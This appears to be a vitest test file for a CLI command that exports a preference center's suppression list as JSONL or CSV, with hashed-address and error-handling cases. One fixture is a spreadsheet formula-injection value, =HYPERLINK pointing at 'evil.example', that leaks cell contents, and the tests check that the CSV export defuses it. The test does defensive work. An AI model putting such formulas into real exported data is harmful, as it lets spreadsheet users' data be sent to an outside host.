import { createHmac } from "node:crypto"
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { parse } from "csv-parse/sync"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { createRegister, openSqliteStore, readConfig } from "../server/index.ts"
import { ADDRESSES, configFile, IMPORT_OCCASION, LOCALES, PERSON, SUBJECT } from "../server/testing.ts"
import { runCommand } from "./testing.ts"

/** As it was built: the command draws its languages from the built page. */
const COMMAND = new URL("../../dist/lib/cli/main.js", import.meta.url).pathname

const AT = "2026-11-23T10:00:00.000Z"
const FORMULA = '=HYPERLINK("https://evil.example/"&A1)'

let folder: string
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "preference-center-"))
  const config = await configFile()
  await writeFile(join(folder, "config.json"), JSON.stringify(config))
  const { brands, suppressionKeys } = await readConfig(config, LOCALES)
  const store = openSqliteStore(join(folder, "register.db"))
  const register = createRegister({ store, suppressionKeys })
  const brand = (id: string) => {
    const found = brands.get(id)
    if (!found) throw new Error("The configuration of the tests has this brand.")
    return found
  }
  const occasion = { ...IMPORT_OCCASION, now: new Date(AT) }
  const people = {
    [SUBJECT]: PERSON.contacts,
    "c-2": [
      { channel: "email", address: FORMULA },
      { channel: "post", address: "Rue de l'Église 1\n4000 Liège" },
    ],
    "c-3": [],
    "c-4": [{ channel: "email", address: "stays@example.be" }],
  }
  for (const [subject, contacts] of Object.entries(people)) {
    const who = { brand: brand("lenoir"), subject }
    await register.importPerson(who, { ...PERSON, contacts }, occasion)
    if (subject !== "c-4") await register.leave(who, occasion, null)
  }
  await register.leaveBy(brand("lenoir"), "ada@example.be", { ...occasion, door: "mail" }, "mail-1")
  await register.leave({ brand: brand("dupont"), subject: "c-of-dupont" }, occasion, null)
  await store.close()
})
afterEach(() => rm(folder, { recursive: true }))

const run = (...args: string[]) =>
  runCommand([COMMAND, "suppressions", "--config", "config.json", "--database", "register.db", ...args], folder)
const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true })
const entriesOf = (text: string) =>
  text
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { subject: string; addresses: { channel: string | null; hash?: string }[] })

async function hashOf(key: string): Promise<string> {
  const { suppressionKeys } = JSON.parse(await readFile(join(folder, "config.json"), "utf8")) as {
    suppressionKeys: { secret: string }[]
  }
  const secret = Buffer.from(suppressionKeys[0]?.secret ?? "", "base64url")
  return `~${createHmac("sha256", secret).update(key).digest("base64url")}`
}

describe("the command for the list of those who object", () => {
  it("tells each with the addresses on record, and nobody else", async () => {
    const { code, out, err } = await run()
    expect([code, err]).toEqual([0, ""])
    const hash = await hashOf("ada@example.be")
    expect(entriesOf(out).map(({ subject, addresses }) => [subject, addresses])).toEqual([
      [SUBJECT, PERSON.contacts],
      ["c-2", expect.arrayContaining([{ channel: "email", address: FORMULA }])],
      ["c-3", []],
      [hash, [{ channel: null, hash }]],
    ])
    expect(entriesOf((await run("--brand", "dupont")).out).map(({ subject }) => subject)).toEqual(["c-of-dupont"])
  })

  it("writes a table in which nothing is a formula, numbers are whole, and lines break only between rows", async () => {
    const rows = rowsOf((await run("--format", "csv")).out)
    const ada = await hashOf("ada@example.be")
    expect(rows.map(({ subject, channel, address, hash }) => [subject, channel, address, hash])).toEqual([
      [SUBJECT, "email", ADDRESSES.email, ""],
      [SUBJECT, "sms", ADDRESSES.sms, ""],
      ["c-2", "email", `'${FORMULA}`, ""],
      ["c-2", "post", "Rue de l'Église 1\n4000 Liège", ""],
      ["c-3", "", "", ""],
      [ada, "", "", ada],
    ])
    expect(rows[0]).toMatchObject({ since: AT, erased: "no", reference: expect.stringMatching(/^[\w-]{12}$/) })
  })

  it("with --hashes tells no address", async () => {
    for (const format of ["jsonl", "csv"]) {
      const { code, out } = await run("--hashes", "--format", format)
      expect(code).toBe(0)
      expect(out).not.toMatch(/@|470|Liège|HYPERLINK/)
      expect(out).toContain(await hashOf(ADDRESSES.email))
      expect(out).toContain(await hashOf("tel:70123456"))
    }
  })

  it.each([
    [["--format", "xlsx"], /--format is jsonl or csv/],
    [["--brand", "nobody"], /There is no brand "nobody"/],
    [["--database", "other.db"], /There is no database other.db/],
    [["--hashes", "--brand", "dupont"], /no suppression key.*new-key suppression --brand dupont/],
  ])("with %j says what is wrong, and writes nothing", async (args, why) => {
    const { code, out, err } = await run(...args)
    expect([code, out]).toEqual([1, ""])
    expect(err).toMatch(why)
    expect(err).not.toMatch(/\n\s+at /)
  })
})
